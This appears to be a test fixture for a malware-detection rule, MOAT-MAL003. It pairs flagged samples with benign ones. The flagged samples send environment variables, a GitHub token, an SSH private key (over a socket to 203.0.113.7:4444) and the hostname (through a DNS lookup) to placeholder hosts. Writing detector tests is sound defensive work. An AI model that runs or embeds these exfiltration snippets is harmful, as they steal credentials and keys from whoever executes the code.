import getpass
import json
import os
import socket

import requests

# ruleid: MOAT-MAL003
requests.post("https://collector.invalid", data=dict(os.environ))

token = os.getenv("GITHUB_TOKEN")
report = {"token": token, "user": getpass.getuser()}
# ruleid: MOAT-MAL003
requests.post("https://collector.invalid", json=report)


def steal_key():
    with open(os.path.expanduser("~/.ssh/id_rsa")) as handle:
        key = handle.read()
    sock = socket.socket()
    sock.connect(("203.0.113.7", 4444))
    # ruleid: MOAT-MAL003
    sock.sendall(key.encode())


def dns():
    host = socket.gethostname()
    # ruleid: MOAT-MAL003
    socket.gethostbyname(host + ".exfil.invalid")


# ok: MOAT-MAL003
requests.get("https://pypi.org/simple/")
home = os.environ.get("HOME")
# ok: MOAT-MAL003
print(json.dumps({"home": home}))
